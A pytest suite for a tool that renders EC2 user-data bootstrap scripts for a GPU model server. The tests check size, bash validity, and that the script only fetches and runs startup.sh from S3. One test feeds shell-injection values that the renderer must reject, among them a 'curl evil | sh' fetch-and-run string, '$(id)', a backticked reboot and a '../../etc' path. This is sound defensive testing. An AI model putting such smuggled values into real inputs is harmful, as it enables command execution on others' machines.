"""The rendered user data is a tiny bootstrap that only fetches and runs startup.sh."""

import re
import shutil
import subprocess

import pytest
from startup_sandbox import REPO, STARTUP_DIR

from gpufill.bootstrap import user_data
from gpufill.bootstrap.user_data import (
    DEFAULT_IMAGE,
    DEFAULT_MODEL_ID,
    MAX_USER_DATA_BYTES,
    MODEL_SERVER_PORT,
    check_user_data_size,
    encoded_size,
    render_user_data,
)

VALUES = dict(
    region="ap-northeast-1",
    bucket="gpufill-startup-123456789012",
    image="123456789012.dkr.ecr.us-west-2.amazonaws.com/vllm-openai:v0.10.1.1",
    model_id="Qwen/Qwen2.5-Coder-7B-Instruct",
)


def working_lines(script: str) -> list[str]:
    return [
        line
        for line in script.splitlines()
        if line.strip() and not line.startswith("#") and line != "set -euo pipefail"
    ]


def test_packaged_template_is_the_canonical_bootstrap():
    packaged = REPO / "functions/gpufill/bootstrap/bootstrap.sh.tmpl"
    assert packaged.read_bytes() == (STARTUP_DIR / "bootstrap.sh").read_bytes(), (
        "functions/gpufill/bootstrap/bootstrap.sh.tmpl differs from startup/bootstrap.sh; "
        "run: cp startup/bootstrap.sh functions/gpufill/bootstrap/bootstrap.sh.tmpl"
    )


def test_user_data_is_small():
    rendered = render_user_data(**VALUES)
    assert encoded_size(rendered) < MAX_USER_DATA_BYTES == 16 * 1024
    assert len(rendered.encode()) < 1024  # a bootstrap, not a payload


def test_user_data_only_fetches_and_runs_the_startup_script():
    rendered = render_user_data(**VALUES)
    assert rendered.startswith("#!/bin/bash\n")
    assert "\nset -euo pipefail\n" in rendered
    assert "$" not in rendered, "every placeholder is filled in"
    assert working_lines(rendered) == [
        "install -d -m 0755 /opt/gpufill",
        'aws s3 cp "s3://gpufill-startup-123456789012/scripts/startup.sh" /opt/gpufill/startup.sh'
        ' --region "ap-northeast-1" --only-show-errors',
        'bash /opt/gpufill/startup.sh --region "ap-northeast-1" --bucket "gpufill-startup-123456789012"'
        ' --image "123456789012.dkr.ecr.us-west-2.amazonaws.com/vllm-openai:v0.10.1.1"'
        ' --model-id "Qwen/Qwen2.5-Coder-7B-Instruct"',
    ]


def test_rendered_user_data_is_valid_bash():
    rendered = render_user_data(**VALUES)
    subprocess.run(["bash", "-n"], input=rendered, text=True, check=True)
    if shutil.which("shellcheck"):
        result = subprocess.run(["shellcheck", "-"], input=rendered, text=True, capture_output=True)
        assert result.returncode == 0, result.stdout


@pytest.mark.parametrize(
    "field, value",
    [
        ("image", 'vllm/vllm-openai"; curl evil | sh; "'),
        ("image", "vllm/vllm-openai:$(id)"),
        ("model_id", "../../etc"),
        ("model_id", "Qwen/Qwen 7B"),
        ("bucket", "Bad_Bucket"),
        ("region", "us-west-2`reboot`"),
    ],
)
def test_values_a_shell_would_interpret_are_refused(field, value):
    with pytest.raises(ValueError, match=field):
        render_user_data(**{**VALUES, field: value})


def test_size_check_names_the_size():
    largest_raw = MAX_USER_DATA_BYTES // 4 * 3  # encodes to exactly the limit
    assert check_user_data_size("x" * largest_raw) == MAX_USER_DATA_BYTES
    with pytest.raises(ValueError, match=r"16388 bytes base64-encoded.*16384"):
        check_user_data_size("x" * (largest_raw + 1))


def test_render_checks_the_size(monkeypatch):
    monkeypatch.setattr(user_data, "MAX_USER_DATA_BYTES", 100)
    with pytest.raises(ValueError, match=r"\d+ bytes base64-encoded"):
        render_user_data(**VALUES)


def test_python_defaults_match_startup_sh():
    startup = (STARTUP_DIR / "startup.sh").read_text()

    def shell_default(variable: str) -> str:
        return re.search(rf'"\$\{{{variable}:-([^}}]*)\}}"', startup).group(1)

    assert shell_default("GPUFILL_IMAGE") == DEFAULT_IMAGE
    assert shell_default("GPUFILL_MODEL_ID") == DEFAULT_MODEL_ID
    assert shell_default("GPUFILL_PORT") == str(MODEL_SERVER_PORT)
